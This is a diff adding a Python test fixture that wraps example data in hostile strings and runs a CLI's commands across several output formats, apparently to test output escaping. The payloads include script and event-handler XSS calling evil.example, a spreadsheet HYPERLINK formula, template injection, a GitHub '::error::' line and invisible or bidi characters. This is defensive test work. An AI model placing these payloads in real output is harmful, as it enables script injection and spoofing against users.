@@ -1,0 +1,66 @@
+"""The examples with hostile words in every text of theirs, and each command in each format on them."""
+
+import json
+import re
+from pathlib import Path
+from typing import Any
+
+from conftest import ROOT, write_yaml
+
+from banshi.reading import read
+
+# A control, marks of direction, separators, characters without width; markup; a formula; a line for a code host.
+UNSEEN = "\x1b[31m\x07\x85\u202e\u2066\u2028\u2029\u200b\u061c\u200f\ufeff\xad"
+MARKUP = (
+    "</title></td></script></style>--><script>document.title='RUN';fetch('http://evil.example/a')</script>"
+    "<img src=http://evil.example/b onerror=\"document.title='RUN'\">"
+    "<svg onload=document.title='RUN'><a href=\"javascript:document.title='RUN'\">x</a>"
+    "\" onmouseover=\"document.title='RUN'\" '{{7*7}}{% raw %}![x](http://evil.example/c)&#x202e;&lt;"
+)
+BEFORE, AFTER = '=HYPERLINK("http://evil.example/d")', f"\n::error::evil{UNSEEN}{MARKUP}"
+_FREE = re.compile(r"[\u4e00-\u9fff]")
+_CONTROL = re.compile("[\x00-\x09\x0b-\x1f]")
+_PLACES = ("log", "catalogue", "source", "punches", "roster", "leave", "table", "file", "jurisdiction", "unit", "kind")
+
+COMMANDS: tuple[tuple[tuple[str, ...], tuple[str, ...]], ...] = (
+    (("check", "."), ("text", "json", "sarif", "github")),
+    (("tier", "change/binhe-road"), ("text", "json")),
+    (("due", "change/binhe-road"), ("text", "json")),
+    (("attendance", "attendance/2010-02"), ("text", "json", "xlsx", "html")),
+    (("assess", "assessment/2012-Q1.yaml", "--what-if"), ("text", "json", "xlsx", "html")),
+    (("cases", "cases/city"), ("text", "json", "xlsx", "html")),
+    (("schedule", "parallel/investment/case.yaml"), ("text", "json", "xlsx", "html")),
+    (("form", "parallel/registration"), ("text", "json", "xlsx", "html")),
+    (("notice", "parallel/registration/case.yaml", "--from", "2012-01-16"), ("text", "json", "html")),
+    (("coverage", "--inventory", "i.csv"), ("text", "json")),
+)
+RUNS = [(*words, "--format", form) for words, forms in COMMANDS for form in forms]
+
+
+def hostile(value: Any, after: str, key: str = "") -> Any:
+    """Plain data with hostile words around every free text in it; the same text stays the same text."""
+    if isinstance(value, dict):
+        return {name: hostile(each, after, name) for name, each in value.items()}
+    if isinstance(value, list):
+        return [hostile(each, after, key) for each in value]
+    if isinstance(value, str) and key not in _PLACES and _FREE.search(value):
+        return f"{BEFORE}{value}{after}"
+    return value
+
+
+def hostile_examples(folder: Path) -> Path:
+    """A hostile copy of the examples in ``folder``."""
+    for path in (ROOT / "examples").rglob("*.*"):
+        copy = folder / path.relative_to(ROOT / "examples")
+        copy.parent.mkdir(parents=True, exist_ok=True)
+        if path.suffix == ".yaml":
+            document = read(path).document
+            assert document is not None
+            # A catalogue with a control is refused as a whole, and then there would be nothing to look at.
+            after = _CONTROL.sub("", AFTER) if "parallel" in path.parts else AFTER
+            write_yaml(copy, hostile(document.data, after))
+        else:
+            copy.write_bytes(path.read_bytes())
+    row = json.dumps(BEFORE + UNSEEN + MARKUP.replace('"', "'"), ensure_ascii=False)
+    (folder / "i.csv").write_text(f"id,check\n{row},E\n", encoding="utf-8")
+    return folder
